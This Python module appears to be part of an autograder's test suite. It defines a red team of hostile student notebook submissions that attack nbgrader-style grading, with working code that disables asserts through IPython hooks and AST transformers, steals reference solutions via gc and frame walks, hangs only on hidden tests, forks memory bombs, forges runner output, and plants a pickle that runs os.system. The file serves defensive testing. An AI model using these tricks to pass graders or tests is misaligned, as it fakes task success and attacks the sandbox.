"""The red team: hostile students that attack the GRADING (not the machine), one family per block.

Each :class:`~autograder._kinds.Kind` below is a full student with one attack injected; :mod:`autograder.samples`
adds them to its table and derives the fair per-cell score from ``breaks``. The attack code is written to be read:
it is the threat model of "How grading is kept safe" in the README, spelled out.

Fair scores, in short: the attacked function scores 0 in every cell that grades it (``WRONG``: it returns zeros,
whatever the trick does to make its tests look passed; ``CHEATS``: right on the notebook's own inputs only, so
the hidden cells fail and the visible ones may go either way; ``UNDEFINED``: the attack found nothing to steal,
so the function never gets defined). Everything the attack does not touch keeps its points, and an attack that
cannot earn anything (printing what it finds, editing nbgrader metadata that the grader restores) costs nothing.
Where an attack SUCCEEDS at reading something it must not see, it says so with ``_hostile_found`` (a
``cs231n-hostile LEAK`` line that ``tests/test_hostile.py`` looks for).

Families (the issue's list, in order): IPython hooks, input/AST transformers, ``showtraceback`` / custom
exception handlers, ``displayhook`` execute_results, ``clear_output``, removing the grader's hooks, silencing
stdout/stderr, hanging only on hidden inputs, editing the checks module's ``__dict__``, reaching the reference
(threads, code objects, frame walks, case tables), printing reference code or bytecode, memory spread over
processes, per-example loops driven by C, tampered nbgrader metadata, and a few more (forged runner output, a
pickle bomb for the trusted side, answers memorised for the visible inputs, ``SystemExit`` on hidden inputs).
"""

from __future__ import annotations

import textwrap

from autograder._kinds import CHEATS, MEMORY, TAMPERED, TIMEOUT, UNDEFINED, WRONG, Injection, Kind

__all__ = ["KINDS"]

# Wrong answers of the right shape, one per function: the "solution" an attacker hides behind its trick.
ZEROS = {
    "hinge_loss": "def hinge_loss(scores, y):\n    return 0.0",
    "softmax": "def softmax(scores):\n    return np.zeros(np.shape(scores))",
    "cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    return 0.0",
    "svm_loss_naive": "def svm_loss_naive(W, X, y, reg):\n    return 0.0, np.zeros_like(W)",
    "svm_loss_vectorized": "def svm_loss_vectorized(W, X, y, reg):\n    return 0.0, np.zeros_like(W)",
    "softmax_loss_naive": "def softmax_loss_naive(W, X, y, reg):\n    return 0.0, np.zeros_like(W)",
    "softmax_loss_vectorized": "def softmax_loss_vectorized(W, X, y, reg):\n    return 0.0, np.zeros_like(W)",
    "numerical_gradient": 'def numerical_gradient(f, x, *, h=1e-5, method="centered"):\n'
    "    return np.zeros_like(x, dtype=float)",
}
NOTEBOOK = {
    "hinge_loss": "01",
    "softmax": "01",
    "cross_entropy_loss": "01",
    "svm_loss_naive": "02",
    "svm_loss_vectorized": "02",
    "softmax_loss_naive": "03",
    "softmax_loss_vectorized": "03",
    "numerical_gradient": "04",
}


def _trick(name: str, description: str, fn: str, code: str, **kw) -> Kind:
    """A kind whose TODO cell for `fn` holds `code` (the trick) followed by a wrong `fn` (zeros)."""
    trick = textwrap.dedent(code).strip("\n")
    inj = Injection(NOTEBOOK[fn], "replace_def", trick + "\n\n" + ZEROS[fn], target=fn)
    return Kind(name, description, injections=(inj,), breaks={fn: WRONG}, **kw)


# ---------------------------------------------------------------------------------------------------------
# 1. IPython event hooks: run code around every later cell (the grader's cells included)
# ---------------------------------------------------------------------------------------------------------
_HOOKS = (
    _trick(
        "hook_post_run_clear",
        "softmax returns zeros; a post_run_cell hook clears every cell's outputs (the failing test's "
        "traceback included) right after it ran",
        "softmax",
        """
        from IPython.display import clear_output
        get_ipython().events.register("post_run_cell", lambda result: clear_output())
        """,
    ),
    _trick(
        "hook_pre_run_repatch",
        "svm_loss_naive returns zeros; a pre_run_cell hook re-patches numpy's and cs231n_lite's asserts and "
        "autograder.checks.check before EVERY cell, so a grader that restores them between cells loses",
        "svm_loss_naive",
        """
        import sys
        import numpy

        def _always_agree(info=None):
            numpy.allclose = lambda *a, **k: True
            numpy.testing.assert_allclose = lambda *a, **k: None
            for _name in ("cs231n_lite.testing", "autograder.checks"):
                _mod = sys.modules.get(_name)
                for _attr in dir(_mod) if _mod is not None else []:
                    if _attr.startswith("assert") or _attr == "check":
                        setattr(_mod, _attr, lambda *a, **k: None)

        get_ipython().events.register("pre_run_cell", _always_agree)
        _always_agree()
        """,
    ),
    _trick(
        "hook_removal_reorder",
        "numerical_gradient returns zeros; unregisters EVERY pre/post cell hook (the grader's own included), "
        "then puts its own patching hook first in the list",
        "numerical_gradient",
        """
        import numpy
        _events = get_ipython().events
        for _event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
            _events.callbacks[_event].clear()

        def _first(info=None):
            numpy.testing.assert_allclose = lambda *a, **k: None
            numpy.allclose = lambda *a, **k: True

        _events.callbacks["pre_run_cell"].insert(0, _first)
        """,
    ),
    _trick(
        "clear_output_post_execute",
        "cross_entropy_loss returns 0; a post_execute hook (the older event, no argument) clears the outputs "
        "of every cell after it ran",
        "cross_entropy_loss",
        """
        from IPython.display import clear_output
        get_ipython().events.register("post_execute", lambda: clear_output(wait=False))
        """,
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 2. Input and AST transformers: rewrite the source of every later cell before it runs
# ---------------------------------------------------------------------------------------------------------
_TRANSFORMERS = (
    _trick(
        "input_transformer_pass",
        "hinge_loss returns 0; an input transformer (cleanup stage) replaces every later cell that mentions "
        "hinge_loss by `pass`, the grade cells included",
        "hinge_loss",
        """
        def _erase_tests(lines):
            return ["pass\\n"] if "hinge_loss" in "".join(lines) else lines

        get_ipython().input_transformers_cleanup.append(_erase_tests)
        """,
    ),
    _trick(
        "input_transformer_try",
        "softmax_loss_naive returns zeros; an input transformer (post stage) wraps every later cell that "
        "uses it in try/except BaseException: pass",
        "softmax_loss_naive",
        """
        def _swallow(lines):
            if "softmax_loss_naive" not in "".join(lines):
                return lines
            body = ["    " + line for line in lines]
            return ["try:\\n", *body, "\\nexcept BaseException:\\n", "    pass\\n"]

        get_ipython().input_transformers_post.append(_swallow)
        """,
    ),
    _trick(
        "ast_drop_asserts",
        "svm_loss_vectorized returns zeros; an AST transformer turns every `assert`, every assert_*() call and "
        "every check() call of later cells into `pass`",
        "svm_loss_vectorized",
        """
        import ast

        class _DropAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)

            def visit_Expr(self, node):
                func = getattr(node.value, "func", None)
                name = getattr(func, "attr", getattr(func, "id", ""))
                if name.startswith("assert") or name == "check":
                    return ast.copy_location(ast.Pass(), node)
                return node

        get_ipython().ast_transformers.append(_DropAsserts())
        """,
    ),
    _trick(
        "ast_try_wrap",
        "softmax_loss_vectorized returns zeros; an AST transformer wraps every top-level statement of later "
        "cells in try/except BaseException: pass",
        "softmax_loss_vectorized",
        """
        import ast

        class _Swallow(ast.NodeTransformer):
            def visit_Module(self, node):
                handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
                node.body = [ast.Try(body=[s], handlers=[handler], orelse=[], finalbody=[]) for s in node.body]
                return ast.fix_missing_locations(node)

        get_ipython().ast_transformers.append(_Swallow())
        """,
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 3. Error display: errors happen, but no error output is written
# ---------------------------------------------------------------------------------------------------------
_ERRORS = (
    _trick(
        "showtraceback_noop",
        "hinge_loss returns 0; the shell's showtraceback and showsyntaxerror are replaced by no-ops, so a "
        "failing cell writes no error output",
        "hinge_loss",
        """
        _shell = get_ipython()
        _shell.showtraceback = lambda *a, **k: None
        _shell.showsyntaxerror = lambda *a, **k: None
        """,
    ),
    _trick(
        "custom_exc_swallow",
        "numerical_gradient returns zeros; set_custom_exc installs a handler for BaseException that shows nothing",
        "numerical_gradient",
        """
        get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
        """,
    ),
    _trick(
        "displayhook_full_credit",
        "softmax returns zeros; a pre_run_cell hook makes the displayhook write an execute_result `1` at the "
        "top of every cell (nbgrader reads the first execute_result before an error as the cell's score)",
        "softmax",
        """
        _shell = get_ipython()
        _shell.events.register("pre_run_cell", lambda info: _shell.displayhook(1))
        """,
    ),
    _trick(
        "displayhook_above_max",
        "cross_entropy_loss returns 0; every cell starts with an execute_result `1000000` (above any cell's "
        "points: nbgrader's autograde used to abort half-way)",
        "cross_entropy_loss",
        """
        _shell = get_ipython()
        _shell.events.register("pre_run_cell", lambda info: _shell.displayhook(10**6))
        """,
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 4. Silence and hangs: no output at all, or no answer on the hidden inputs
# ---------------------------------------------------------------------------------------------------------
# The notebook's own calls come straight from a cell; anything else (a grader, a checks module) is "hidden".
_CALLED_FROM_A_CELL = """
import sys

def _called_from_a_cell(depth=2):
    filename = sys._getframe(depth).f_code.co_filename
    return filename.startswith("<ipython-input") or "ipykernel_" in filename or filename.startswith("<cell")
"""
_HINGE = '''
def hinge_loss(scores, y):
    """Right on the notebook's own calls; elsewhere: SIGINT ignored, then sleep past every time limit."""
    if not _called_from_a_cell():
        _stall()
    scores = np.asarray(scores, dtype=float)
    margins = np.maximum(0.0, scores - scores[y] + 1.0)
    margins[y] = 0.0
    return float(margins.sum())
'''
_SILENCE = (
    _trick(
        "silence_stdout_none",
        "softmax_loss_naive returns zeros; sys.stdout and sys.stderr become None (prints and warnings vanish; "
        "ipykernel itself then fails to flush them after the cell and never answers again: stopped at the limit)",
        "softmax_loss_naive",
        """
        import sys
        sys.stdout = None
        sys.stderr = None
        """,
        stop={"03": "def:softmax_loss_naive"},
        status={"03": TIMEOUT},
    ),
    _trick(
        "silence_fds_devnull",
        "svm_loss_vectorized returns zeros; the kernel's file descriptors 1 and 2 point to /dev/null",
        "svm_loss_vectorized",
        """
        import os
        _null = os.open(os.devnull, os.O_WRONLY)
        os.dup2(_null, 1)
        os.dup2(_null, 2)
        """,
    ),
    Kind(
        "sigint_ignore_hidden_sleep",
        "hinge_loss is right when a notebook cell calls it; called from anywhere else it ignores SIGINT and "
        "SIGTERM and sleeps 10^6 s (a hidden test that ends with no error output used to count as passed)",
        injections=(
            Injection(
                "01",
                "replace_def",
                _CALLED_FROM_A_CELL
                + """
import signal, time

def _stall():
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    time.sleep(10**6)
"""
                + _HINGE,
                target="hinge_loss",
            ),
        ),
        breaks={"hinge_loss": CHEATS},
        stop={"01": "check:hinge_loss"},
        status={"01": TIMEOUT},
    ),
    Kind(
        "sigmask_hidden_sleep",
        "as sigint_ignore_hidden_sleep, but SIGINT is BLOCKED with pthread_sigmask and a handler swallows "
        "KeyboardInterrupt, in case the grader restores the default handler",
        injections=(
            Injection(
                "01",
                "replace_def",
                _CALLED_FROM_A_CELL
                + """
import signal, time

def _stall():
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM})
    signal.signal(signal.SIGINT, lambda *a: None)
    while True:
        try:
            time.sleep(10**6)
        except BaseException:
            pass
"""
                + _HINGE,
                target="hinge_loss",
            ),
        ),
        breaks={"hinge_loss": CHEATS},
        stop={"01": "check:hinge_loss"},
        status={"01": TIMEOUT},
    ),
    Kind(
        "systemexit_hidden",
        "hinge_loss is right when a notebook cell calls it and raises SystemExit (not an Exception) anywhere "
        "else, hoping the grader's `except Exception` lets it through as a pass",
        injections=(
            Injection(
                "01",
                "replace_def",
                _CALLED_FROM_A_CELL + "\n\ndef _stall():\n    raise SystemExit(0)\n" + _HINGE,
                target="hinge_loss",
            ),
        ),
        breaks={"hinge_loss": CHEATS},
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 5. The checks module: "sealed" modules are still objects with a writable __dict__
# ---------------------------------------------------------------------------------------------------------
_CHECKS_MODULE = (
    _trick(
        "checks_dict_patch",
        "softmax_loss_vectorized returns zeros; writes a no-op `check` and no-op entries for every table of "
        "callables into vars(autograder.checks) (the module __dict__), if that module can be reached",
        "softmax_loss_vectorized",
        """
        import sys
        try:
            import autograder.checks as _checks
        except Exception:
            _checks = sys.modules.get("autograder.checks")
        if _checks is not None:
            _namespace = vars(_checks)
            _namespace["check"] = lambda *a, **k: None
            for _value in list(_namespace.values()):
                if isinstance(_value, dict):
                    for _key in list(_value):
                        if callable(_value[_key]):
                            _value[_key] = lambda *a, **k: None
        """,
    ),
    _trick(
        "checks_code_swap",
        "softmax_loss_naive returns zeros; replaces the __code__ of every function of autograder.checks by a "
        "no-op's (every reference to those functions now runs the no-op)",
        "softmax_loss_naive",
        """
        import sys, types
        _noop = (lambda *a, **k: None).__code__
        try:
            import autograder.checks as _checks
        except Exception:
            _checks = sys.modules.get("autograder.checks")
        for _value in list(vars(_checks).values()) if _checks is not None else []:
            if isinstance(_value, types.FunctionType) and not _value.__code__.co_freevars:
                _value.__code__ = _noop
        """,
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 6. Reaching the reference or the expected answers in memory
# ---------------------------------------------------------------------------------------------------------
_STEAL = (
    Kind(
        "ref_from_thread",
        "a helper THREAD (where a tracer of the main thread does not look) searches gc for a function "
        "softmax_loss_vectorized defined outside the notebook; softmax_loss_vectorized becomes it",
        injections=(
            Injection(
                "03",
                "replace_def",
                """
                import gc, threading
                _found = []

                def _search():
                    for _o in gc.get_objects():
                        if (type(_o).__name__ == "function" and getattr(_o, "__name__", "") == "softmax_loss_vectorized"
                                and getattr(_o, "__module__", "__main__") != "__main__"):
                            _found.append(_o)

                _t = threading.Thread(target=_search)
                _t.start()
                _t.join()
                if not _found:
                    raise LookupError("no reference softmax_loss_vectorized in memory")
                _hostile_found(f"reference {_found[0].__module__}.softmax_loss_vectorized reached from a thread")
                softmax_loss_vectorized = _found[0]
                """,
                target="softmax_loss_vectorized",
            ),
        ),
        breaks={"softmax_loss_vectorized": UNDEFINED},
    ),
    Kind(
        "ref_code_object",
        "looks in gc for a CODE object named svm_loss_naive that was not compiled from a notebook cell, and "
        "builds svm_loss_naive from a copy of it (no function object of the reference needed)",
        injections=(
            Injection(
                "02",
                "replace_def",
                """
                import gc, types
                _codes = [o for o in gc.get_objects() if isinstance(o, types.CodeType)
                          and o.co_name == "svm_loss_naive" and "ipykernel_" not in o.co_filename
                          and not o.co_filename.startswith("<")]
                if not _codes:
                    raise LookupError("no reference code object for svm_loss_naive")
                _hostile_found("copied the code object of " + _codes[0].co_filename)
                svm_loss_naive = types.FunctionType(_codes[0].replace(co_name="svm_loss_naive"), globals())
                """,
                target="svm_loss_naive",
            ),
        ),
        breaks={"svm_loss_naive": UNDEFINED},
    ),
    Kind(
        "ref_frame_walk",
        "cross_entropy_loss walks up the CALLER frames (and the last traceback's frames) outside the notebook "
        "and returns any local named like an expected answer; without one it returns 0",
        injections=(
            Injection(
                "01",
                "replace_def",
                '''
                import sys

                def _expected_from_callers():
                    frames = []
                    frame = sys._getframe(2)
                    while frame is not None:
                        frames.append(frame)
                        frame = frame.f_back
                    tb = getattr(sys, "last_traceback", None)
                    while tb is not None:
                        frames.append(tb.tb_frame)
                        tb = tb.tb_next
                    for frame in frames:
                        if frame.f_globals.get("__name__", "__main__").startswith(("__main__", "cs231n_lite")):
                            continue  # the notebook's own variables and its visible asserts are no leak
                        for name, value in frame.f_locals.items():
                            if name in ("expected", "want", "ref", "reference", "answer", "target") and \\
                                    isinstance(value, float):
                                return value
                    return None

                def cross_entropy_loss(scores, y):
                    """Whatever the caller expects, else 0."""
                    found = _expected_from_callers()
                    if found is not None:
                        _hostile_found("expected answer read from a grader frame")
                    return found if found is not None else 0.0
                ''',
                target="cross_entropy_loss",
            ),
        ),
        breaks={"cross_entropy_loss": WRONG},
    ),
    Kind(
        "ref_case_tables",
        "searches the grader's and the course's loaded modules (autograder*, cs231n_lite*, grader*) for tables "
        "named like cases/expected/answers (the checks' precomputed answers); numerical_gradient is defined "
        "only if none exist",
        injections=(
            Injection(
                "04",
                "before_def",
                """
                import sys
                _tables = []
                for _name, _mod in list(sys.modules.items()):  # the grader's and the course's own modules
                    if _mod is None or not _name.startswith(("autograder", "cs231n_lite", "grader")):
                        continue
                    for _attr, _value in list(vars(_mod).items()):
                        if (any(w in _attr.lower() for w in ("cases", "expected", "answers"))
                                and isinstance(_value, (dict, list, tuple)) and len(_value) > 0):
                            _tables.append(f"{_name}.{_attr}")
                if _tables:
                    _hostile_found("case tables in memory: " + ", ".join(_tables[:5]))
                    raise RuntimeError("stops here so the leak shows")
                """,
                target="numerical_gradient",
            ),
        ),
    ),
    Kind(
        "ref_thread_frames",
        "inspects the frames of every OTHER thread of the kernel (sys._current_frames) for a softmax_loss_naive "
        "that is not the notebook's; softmax_loss_naive becomes it",
        injections=(
            Injection(
                "03",
                "replace_def",
                """
                import sys, threading
                _me = threading.get_ident()
                _ref = None
                for _ident, _frame in sys._current_frames().items():
                    while _frame is not None and _ident != _me and _ref is None:
                        _cand = _frame.f_globals.get("softmax_loss_naive")
                        if callable(_cand) and _frame.f_globals.get("__name__") != "__main__":
                            _ref = _cand
                        _frame = _frame.f_back
                if _ref is None:
                    raise LookupError("no softmax_loss_naive in other threads' frames")
                _hostile_found("reference softmax_loss_naive found in another thread's frame")
                softmax_loss_naive = _ref
                """,
                target="softmax_loss_naive",
            ),
        ),
        breaks={"softmax_loss_naive": UNDEFINED},
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 7. Printing what is in memory into the outputs (they become the feedback HTML)
# ---------------------------------------------------------------------------------------------------------
_PRINT = (
    Kind(
        "print_reference_source",
        "after a correct svm_loss_vectorized: prints inspect.getsource of every reference/checks function in "
        "memory and every cached source line (linecache) of reference or checks files (harmless: full marks)",
        injections=(
            Injection(
                "02",
                "after_def",
                """
                import gc, inspect, linecache
                _sources = []
                for _o in gc.get_objects():
                    _mod = getattr(_o, "__module__", "") or ""
                    if type(_o).__name__ == "function" and ("reference" in _mod or "checks" in _mod):
                        try:
                            _sources.append(inspect.getsource(_o))
                        except Exception:
                            pass
                for _file, _entry in list(linecache.cache.items()):
                    if ("reference" in _file or "checks" in _file) and len(_entry) > 2:
                        _sources.append("".join(_entry[2]))
                print("sources printed:", len(_sources))  # first: an output cap cannot hide the count
                if _sources:
                    _hostile_found(f"printing {len(_sources)} reference/checks sources into the feedback")
                for _text in _sources:
                    print(_text)
                """,
                target="svm_loss_vectorized",
            ),
        ),
    ),
    Kind(
        "print_reference_bytecode",
        "after a correct softmax_loss_naive: disassembles every code object in memory whose file is a "
        "reference or checks module into the output (harmless: full marks)",
        injections=(
            Injection(
                "03",
                "after_def",
                """
                import dis, gc, types
                _codes = [o for o in gc.get_objects() if isinstance(o, types.CodeType)
                          and ("reference" in o.co_filename or "checks" in o.co_filename)]
                print("code objects disassembled:", len(_codes))  # first: an output cap cannot hide the count
                if _codes:
                    _hostile_found(f"disassembling {len(_codes)} reference/checks code objects into the feedback")
                for _code in _codes[:20]:
                    dis.dis(_code)
                """,
                target="softmax_loss_naive",
            ),
        ),
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 8. Memory spread over processes: every process is small, the sandbox is not
# ---------------------------------------------------------------------------------------------------------
_MEMORY = (
    Kind(
        "fork_memory",
        "a new first cell forks 4 children that each write 1 GiB and sleep (each under the per-process "
        "limit, together over the sandbox's): the whole sandbox is stopped",
        injections=(
            Injection(
                "04",
                "first_cell",
                """
                import os, time
                for _ in range(4):
                    if os.fork() == 0:
                        _block = b"\\x01" * (1 << 30)  # 1 GiB, every page written
                        time.sleep(60)
                        os._exit(0)
                time.sleep(60)
                """,
            ),
        ),
        stop={"04": "first"},
        status={"04": MEMORY},
    ),
    Kind(
        "pool_memory",
        "a new first cell starts a multiprocessing Pool of 4 workers that each hold 900 MiB",
        injections=(
            Injection(
                "01",
                "first_cell",
                """
                import multiprocessing, time

                def _hold(_):
                    block = b"\\x02" * (900 << 20)
                    time.sleep(60)
                    return len(block)

                with multiprocessing.get_context("fork").Pool(4) as _pool:
                    _pool.map(_hold, range(4))
                """,
            ),
        ),
        stop={"01": "first"},
        status={"01": MEMORY},
    ),
    Kind(
        "shm_fill",
        "before defining numerical_gradient, writes up to 2 GiB into /dev/shm (tmpfs files belong to no "
        "process, so a per-process watchdog would not see them); defined only if that was possible (the "
        "sandbox's /dev/shm is a 64 MiB tmpfs and files are capped by RLIMIT_FSIZE)",
        injections=(
            Injection(
                "04",
                "before_def",
                """
                import os
                _written = 0
                try:
                    with open("/dev/shm/$marker-$student_id", "wb") as _f:
                        for _ in range(2048):
                            _f.write(b"\\x03" * (1 << 20))
                            _written += 1
                finally:
                    if os.path.exists("/dev/shm/$marker-$student_id"):
                        os.remove("/dev/shm/$marker-$student_id")
                _hostile_found(f"{_written} MiB written to /dev/shm")
                """,
                target="numerical_gradient",
            ),
        ),
        breaks={"numerical_gradient": UNDEFINED},
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 9. Per-example loops run by C: right values, not vectorized, no `for` in sight
# ---------------------------------------------------------------------------------------------------------
_SVM_FROM_SCORES = """
    N = X.shape[0]
    correct = scores[np.arange(N), y][:, None]
    margins = np.maximum(0, scores - correct + 1)
    margins[np.arange(N), y] = 0
    loss = margins.sum() / N + reg * np.sum(W * W)
    binary = (margins > 0).astype(W.dtype)
    binary[np.arange(N), y] = -binary.sum(axis=1)
    dW = X.T.dot(binary) / N + 2 * reg * W
    return loss, dW.astype(W.dtype)
"""
_SOFTMAX_FROM_SCORES = """
    N = X.shape[0]
    scores = scores - scores.max(axis=1, keepdims=True)
    p = np.exp(scores)
    p /= p.sum(axis=1, keepdims=True)
    loss = -np.log(p[np.arange(N), y]).mean() + reg * np.sum(W * W)
    p[np.arange(N), y] -= 1
    dW = X.T.dot(p) / N + 2 * reg * W
    return float(loss), dW.astype(W.dtype)
"""


def _loop(name: str, description: str, fn: str, scores_code: str, rest: str) -> Kind:
    code = f'def {fn}(W, X, y, reg):\n    """Right values; the scores come one example at a time."""\n'
    code += scores_code.strip("\n") + "\n" + rest.strip("\n")
    return Kind(
        name,
        description,
        injections=(Injection(NOTEBOOK[fn], "replace_def", code, target=fn),),
        breaks={fn: CHEATS},
    )


_LOOPS = (
    _loop(
        "loop_map_bound_method",
        "svm_loss_vectorized: the scores are map(W.T.dot, X) under an innocent name (a per-example loop run "
        "by map in C)",
        "svm_loss_vectorized",
        "    project = W.T.dot  # a bound numpy method\n    scores = np.array(list(map(project, X)))",
        _SVM_FROM_SCORES,
    ),
    _loop(
        "loop_frompyfunc",
        "svm_loss_vectorized: the scores of each example come from a ufunc made with np.frompyfunc",
        "svm_loss_vectorized",
        "    row = np.frompyfunc(lambda i: X[i].dot(W), 1, 1)\n"
        "    scores = np.stack(list(row(np.arange(X.shape[0]))))",
        _SVM_FROM_SCORES,
    ),
    _loop(
        "loop_np_vectorize",
        "softmax_loss_vectorized: the scores come from np.vectorize over the example indices",
        "softmax_loss_vectorized",
        '    row = np.vectorize(lambda i: X[i].dot(W), signature="()->(c)")\n'
        "    scores = row(np.arange(X.shape[0]))",
        _SOFTMAX_FROM_SCORES,
    ),
    _loop(
        "loop_apply_along_axis",
        "softmax_loss_vectorized: the scores come from np.apply_along_axis(W.T.dot, 1, X)",
        "softmax_loss_vectorized",
        "    scores = np.apply_along_axis(W.T.dot, 1, X)",
        _SOFTMAX_FROM_SCORES,
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 10. Tampered nbgrader metadata: the grader restores the release's and says which cell was changed
# ---------------------------------------------------------------------------------------------------------
_METADATA = (
    Kind(
        "tamper_duplicate_id",
        "hinge_loss returns 0; a copy of the hinge-loss-hidden cell (same grade_id) with body `pass` and 100 "
        "points is appended",
        injections=(Injection("01", "replace_def", ZEROS["hinge_loss"], target="hinge_loss"),),
        op=("dup_cell", "01", "hinge-loss-hidden"),
        breaks={"hinge_loss": WRONG},
        status={"01": TAMPERED},
    ),
    Kind(
        "tamper_points",
        "full solutions; the softmax-naive-hidden cell is worth 100 points instead of 2",
        op=("set_meta", "03", "softmax-naive-hidden:points=100"),
        status={"03": TAMPERED},
    ),
    Kind(
        "tamper_to_solution",
        "svm_loss_vectorized returns zeros; its hidden test cell is turned into an editable solution cell "
        "with body `pass`",
        injections=(
            Injection("02", "replace_def", ZEROS["svm_loss_vectorized"], target="svm_loss_vectorized"),
        ),
        op=("set_meta", "02", 'svm-vectorized-hidden:solution=true,locked=false,source="pass"'),
        breaks={"svm_loss_vectorized": WRONG},
        status={"02": TAMPERED},
    ),
    Kind(
        "tamper_grade_removed",
        "full solutions; the numerical-gradient-hidden cell is no longer marked as graded",
        op=("set_meta", "04", "numerical-gradient-hidden:grade=false"),
        status={"04": TAMPERED},
    ),
    Kind(
        "tamper_metadata_stripped",
        "full solutions; the softmax-visible cell has no nbgrader metadata at all",
        op=("strip_meta", "01", "softmax-visible"),
        status={"01": TAMPERED},
    ),
    Kind(
        "tamper_output_above_max",
        "full solutions; handed in with an execute_result `1000000` stored in the softmax-vectorized-hidden cell",
        op=("add_output", "03", "softmax-vectorized-hidden:1000000"),
        status={"03": TAMPERED},
    ),
    Kind(
        "tamper_kernelspec",
        "full solutions; the notebook asks for a kernel named `evil-kernel`",
        op=("kernelspec", "04", "evil-kernel"),
        status={"04": TAMPERED},
    ),
    Kind(
        "tamper_new_grade_cell",
        "full solutions; a new graded cell `bonus` worth 100 points with body `pass` is appended",
        op=("new_grade_cell", "02", "bonus:100"),
        status={"02": TAMPERED},
    ),
    Kind(
        "tamper_deleted_restored",
        "full solutions; the cross_entropy_loss visible and hidden test cells are deleted (put back from the "
        "release: the function is still graded)",
        op=("drop_tests", "01", "cross_entropy_loss"),
        status={"01": TAMPERED},
    ),
)

# ---------------------------------------------------------------------------------------------------------
# 11. More: forged runner output, a pickle for the trusted side, memorised visible answers
# ---------------------------------------------------------------------------------------------------------
_MORE = (
    _trick(
        "forge_runner_output",
        "svm_loss_naive returns zeros; writes fake `status ok` runner result lines to its own stdout/stderr "
        "and to fd 1 of every process it can open in /proc",
        "svm_loss_naive",
        """
        import json, os
        _fake = json.dumps({"name": "02_svm", "status": "ok", "error": "", "notebook": None, "seconds": 1.0,
                            "scores": {"svm-naive-hidden": 2, "svm-naive-visible": 1}}) + "\\n"
        for _fd in (1, 2):
            try:
                os.write(_fd, _fake.encode())
            except OSError:
                pass
        for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                with open(f"/proc/{_pid}/fd/1", "w") as _out:
                    _out.write(_fake)
            except Exception:
                pass
        """,
    ),
    Kind(
        "pickle_bomb",
        "softmax_loss_naive returns objects whose __reduce__ runs a shell command that writes a marker file "
        "into the host's canary dir if the trusted side ever unpickles them",
        injections=(
            Injection(
                "03",
                "replace_def",
                """
                import os

                class _Bomb:
                    def __reduce__(self):
                        return (os.system, ("touch $canary_dir/$marker-$student_id-unpickled",))

                    def __float__(self):
                        return 0.0

                def softmax_loss_naive(W, X, y, reg):
                    return _Bomb(), _Bomb()
                """,
                target="softmax_loss_naive",
            ),
        ),
        breaks={"softmax_loss_naive": WRONG},
        host_checks=("canary",),
    ),
    Kind(
        "memorize_visible",
        "softmax is right when a notebook cell calls it and returns uniform probabilities anywhere else",
        injections=(
            Injection(
                "01",
                "replace_def",
                _CALLED_FROM_A_CELL
                + '''

def softmax(scores):
    """Right for the notebook's own calls only."""
    if not _called_from_a_cell():
        return np.full(np.shape(scores), 1.0 / np.shape(scores)[-1])
    shifted = scores - np.max(scores, axis=-1, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=-1, keepdims=True)
''',
                target="softmax",
            ),
        ),
        breaks={"softmax": CHEATS},
    ),
)

#: Every red-team kind, in family order.
KINDS: tuple[Kind, ...] = (
    *_HOOKS,
    *_TRANSFORMERS,
    *_ERRORS,
    *_SILENCE,
    *_CHECKS_MODULE,
    *_STEAL,
    *_PRINT,
    *_MEMORY,
    *_LOOPS,
    *_METADATA,
    *_MORE,
)
